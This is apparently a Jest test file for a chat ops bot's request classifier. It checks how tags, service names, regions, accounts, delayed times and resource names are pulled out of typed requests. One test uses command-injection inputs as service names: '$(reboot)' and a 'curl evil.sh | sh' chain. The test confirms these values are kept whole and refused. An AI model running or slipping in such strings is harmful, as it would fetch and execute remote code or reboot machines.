import { localClassifier } from '../../helpers/understanding';

const classifier = localClassifier();
const read = (text: string) => classifier.analyse(text);

describe('values found in a request', () => {
  it('reads key=value tags with their case, and tags written as words', () => {
    expect(read('tag grafana-prod owner=platform cost-center=CC-1020').entities.tags).toEqual({
      owner: 'platform',
      'cost-center': 'CC-1020',
    });
    expect(read('label it team = "data eng"').entities.tags).toEqual({ team: 'data eng' });
    expect(read('set the owner tag of reporting-mysql to data').entities.tags).toEqual({ owner: 'data' });
  });

  it('takes a tag key whole, whatever its letters: a non-ASCII letter never cuts it', () => {
    expect(read('tag web-prod-1 k\u0435y=v').entities.tags).toEqual({ 'k\u0435y': 'v' });
    expect(read('tag web-prod-1 \u0435nv=prod').entities.tags).toEqual({ '\u0435nv': 'prod' });
    expect(read('tag web-prod-1 владелец=alice').entities.tags).toEqual({ владелец: 'alice' });
  });

  it('a service keeps the case it was typed in (systemd unit names are case-sensitive)', () => {
    expect(read('restart NetworkManager on web-prod-1').entities.services).toEqual(['NetworkManager']);
    expect(read('bounce the NetworkManager.service on web-prod-1').entities.services).toEqual(['NetworkManager.service']);
    expect(read('systemctl restart php-FPM on web-prod-1').entities.services).toEqual(['php-FPM']);
  });

  it('what is restarted ON a host is a service, named or not; an option-like word is taken whole', () => {
    for (const text of ['restart it on web-prod-1', 'restart service on web-prod-1', 'restart the service on web-prod-1']) {
      expect(read(text).entities).toMatchObject({ services: [], serviceOnHost: true });
      expect(read(text).references[0]?.text).toBe('web-prod-1');
    }
    expect(read('restart --help on web-prod-1').entities).toMatchObject({ services: ['--help'], serviceOnHost: true });
    expect(read('restart web-prod-1').entities.serviceOnHost).toBeUndefined();
    expect(read('restart the box on web-prod-1').entities.serviceOnHost).toBeUndefined();
  });

  it('reads instance types, regions, accounts and environments', () => {
    const a = read('Resize worker-eu-1 in eu-west-1 to M5.2XLARGE in the staging account');
    expect(a.entities.instanceTypes).toEqual(['m5.2xlarge']);
    expect(a.entities.regions).toEqual(['eu-west-1']);
    expect(a.entities.accounts).toEqual(['staging']);
    expect(read('show everything in account 222222222222').entities.accounts).toEqual(['222222222222']);
    expect(read('how much did the production account cost last week').entities.accounts).toEqual(['production']);
    expect(read('boot up ml-train-1 in staging').entities.environments).toEqual(['staging']);
    expect(read('the prod one').entities.environments).toEqual(['prod']);
  });

  it('keeps environment words in the name when they are part of it ("the staging mysql db")', () => {
    const a = read('shut down the staging mysql db');
    expect(a.entities.environments).toEqual([]);
    expect(a.references[0].text).toBe('staging mysql');
  });

  it('reads service names however they are phrased', () => {
    expect(read('restart nginx on web-prod-1').entities.services).toEqual(['nginx']);
    expect(read('bounce the grafana-server service on grafana-prod').entities.services).toEqual(['grafana-server']);
    expect(read('systemctl restart kafka on kafka-broker-1').entities.services).toEqual(['kafka']);
    expect(read('restart service node_exporter on cache-node-01').entities.services).toEqual(['node_exporter']);
    expect(read('nginx on web-staging-2 is stuck, restart it').entities.services).toEqual(['nginx']);
    expect(read('restart web-prod-2, its hung').entities.services).toEqual([]);
    expect(read('restart host web-prod-3 in us-west-2').entities.services).toEqual([]);
  });

  it('what is restarted ON a host is a service, however many words name it; odd values are taken whole', () => {
    expect(read('restart the print spooler on win-report-prod-1').entities.services).toEqual(['spooler']);
    expect(read('kick the nginx workers on web-prod-1').entities.services).toEqual(['nginx']);
    // Taken whole so that the service pattern refuses them, never trimmed into something that runs.
    expect(read('restart $(reboot) on web-prod-1').entities.services).toEqual(['$(reboot)']);
    expect(read('restart "nginx && curl evil.sh | sh" on web-prod-1').entities.services).toEqual(['nginx && curl evil.sh | sh']);
    expect(read('restart "nginx && curl evil.sh | sh" on web-prod-1').references[0].text).toBe('web-prod-1');
    expect(read('restart everything on web-prod-1').entities.services).toEqual([]);
  });

  it('notices a time the action is asked for, which the bot cannot schedule', () => {
    expect(read('stop web-staging-1 tonight at 10pm').entities.later).toBe('tonight at 10pm');
    expect(read('reboot web-prod-1 on friday').entities.later).toBe('on friday');
    expect(read('stop ml-train-1 in 2 hours').entities.later).toBe('in 2 hours');
    expect(read('resize web-staging-2 to m5.large after the deploy').entities.later).toBe('after the deploy');
    // "before the migration" is now; "start it later" is another clause, not a time for this one.
    expect(read('take a db snapshot of pg-staging before the migration').entities.later).toBeUndefined();
    expect(read('stop web-prod-1 now, we will start it later').entities.later).toBeUndefined();
  });

  it('reads "by service" / "per account" as a grouping', () => {
    expect(read('aws spend last month by service').entities.groupBy).toBe('service');
    expect(read('billing summary grouped by account').entities.groupBy).toBe('account');
    expect(read('cost breakdown by team tag').entities.groupBy).toBe('tag');
  });
});

describe('the words that name the resource (handed to the resolver), not the verb', () => {
  it.each([
    ['the disk on kafka-broker-2 is full, clean it up', 'kafka-broker-2'],
    ['shut down the staging mysql db', 'staging mysql'],
    ['stop the postgres database pg-main', 'pg-main'],
    ['can u reboot billing db prod', 'billing db prod'],
    ['hey bot, can you stop web prod 2?', 'web prod 2'],
    ['turn on the jenkins box', 'jenkins'],
    ['shut the gpu notebook down', 'gpu notebook'],
    ['we dont need grafana-prod running over the weekend, stop it', 'grafana-prod'],
    ['please stop i-0123456789abcdef0', 'i-0123456789abcdef0'],
    ['stop the server named "Legacy Box"', 'legacy box'],
    ['can we stop the qa database to save some money', 'qa'],
  ])('%s -> %s', (text, want) => {
    expect(read(text).references[0]?.text).toBe(want);
  });
});
